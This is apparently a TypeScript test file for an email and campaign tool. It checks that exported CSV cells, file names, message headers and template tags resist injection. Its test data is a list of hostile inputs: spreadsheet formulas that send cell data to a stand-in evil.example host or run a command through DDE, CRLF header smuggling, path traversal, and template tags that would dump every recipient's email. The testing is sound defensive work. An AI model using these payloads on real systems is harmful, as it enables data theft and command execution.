import { describe, expect, it } from 'vitest';
import { neutralise, toCsv } from '#shared/domain/calendar/sheet/csv-out.ts';
import { fileName } from '#shared/domain/image/file-name.ts';
import { compile } from '#shared/email/compile/compile.ts';
import { buildEml } from '#shared/email/export/eml.ts';
import { sampleCopy, sampleDocument } from '#tests/support/emails.ts';
import fc from '#tests/support/fast-check.ts';
import { signedInClient } from './support/galley.ts';
import { hostileLetter } from './support/json-schema-arbitrary.ts';

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '"=1+1',
  ';=1+1',
  "'=1+1",
  `=HYPERLINK("https://evil.example?a="&A1,"go")`,
  '=cmd|"/C calc"!A0',
  '=IMPORTXML("https://evil.example","//a")',
];
/** Leading spaces are skipped, and full-width signs count. */
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell);
const anyText = fc.string({ unit: hostileLetter });

describe('a cell of an exported table', () => {
  it('is a text to every spreadsheet, whatever it begins with', () => {
    expect(formulas.map(neutralise).filter(isFormula)).toEqual([]);
    fc.assert(
      fc.property(anyText, (text) => {
        expect(isFormula(neutralise(text))).toBe(false);
      }),
    );
  });

  it('stays one cell, and a row one row', () => {
    const csv = toCsv([formulas, formulas]);
    const rows = csv.slice(1).split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(rows).toHaveLength(3);
  });

  it('is guarded in the file of rows that could not be read', async () => {
    const client = await signedInClient();
    await client.call('addClient', { body: { id: 'injection', display_name: 'Injection' } });
    const over = 'x'.repeat(70_000);
    const csv = `Campaign Name,Brief,Subject Line\nFine,Our tea is back,Hello\n=1+1,${over},@SUM(A1)\n`;
    const headers = { 'x-client': 'injection' };
    const { session_id } = await client.call('uploadCampaignCalendar', {
      body: { client: 'injection' },
      headers,
      files: { csv_file: { name: 'a.csv', type: 'text/csv', bytes: new TextEncoder().encode(csv) } },
    });
    const { csv: exported } = await client.call('rejectedRows', { params: { session: session_id }, headers });
    expect(exported).toContain("'=1+1");
    expect(exported).toContain("'@SUM(A1)");
  });
});

describe('a file’s name', () => {
  it('holds only letters, digits and underscores, and is never a Windows device', () => {
    const names = [
      'CON',
      'nul',
      'com1',
      'a\r\nSet-Cookie: x=1',
      'a"; filename="b.exe',
      '../../a',
      'é'.repeat(400),
      '',
    ];
    for (const name of names) {
      expect(fileName(name)).toMatch(/^[A-Za-z0-9_]{1,210}\.html$/);
      expect(fileName(name)).not.toMatch(/^(con|nul|com1)\./i);
    }
    fc.assert(
      fc.property(fc.string({ unit: hostileLetter, maxLength: 500 }), (name) => {
        expect(fileName(name)).toMatch(/^[A-Za-z0-9_]{1,210}\.html$/);
      }),
    );
  });
});

describe('a message', () => {
  const known = /^(From|To|Reply-To|Subject|Date|Message-ID|X-Unsent|MIME-Version|Content-Type): /;
  it('has the headers that we give it and no others, whatever is in its texts', () => {
    const wild = fc.oneof(
      anyText,
      fc.constantFrom(
        'a\r\nBcc: all@example.com',
        'a\nBcc: b',
        'a\rBcc: b',
        'x\r\n\r\n<script>',
        '=?utf-8?q?a?=',
        'a\0b',
      ),
    );
    fc.assert(
      fc.property(wild, wild, wild, wild, (subject, name, address, id) => {
        const eml = buildEml({
          from: { name, address },
          to: address,
          replyTo: address,
          subject,
          text: 'Hello',
          html: '<p>Hello</p>',
          date: new Date(0),
          id,
        });
        const [head = '', ...rest] = eml.split('\r\n\r\n');
        const lines = head.split(/\r\n|\r|\n/);
        expect(lines.filter((line) => !known.test(line) && !/^ \S/.test(line))).toEqual([]);
        expect(rest.length).toBeGreaterThan(2);
      }),
    );
  });
});

describe('a tag of a sending platform', () => {
  it('in the words of an email is text, apart from the reader’s name', () => {
    const tags = [
      '{% for p in person.all %}{{ p.email }}{% endfor %}',
      '{{ person|all_properties }}',
      '{% include "secret" %}',
      '{# comment #}',
      '{{ "a"|safe }}',
    ];
    for (const tag of tags) {
      const texts = {
        headline: tag,
        cta_text: tag,
        sections: [{ heading: tag, paragraphs: [tag], bullets: [tag] }],
      };
      const { html } = compile(sampleDocument({ copy: sampleCopy(texts) }), { variant: 'klaviyo' });
      const live = html.match(/\{[{%#][^}]*[}%#]\}/g) ?? [];
      expect([
        tag,
        live.filter((each) => !/unsubscribe|organization|web_view|manage_preferences/.test(each)),
      ]).toEqual([tag, []]);
    }
  });
});
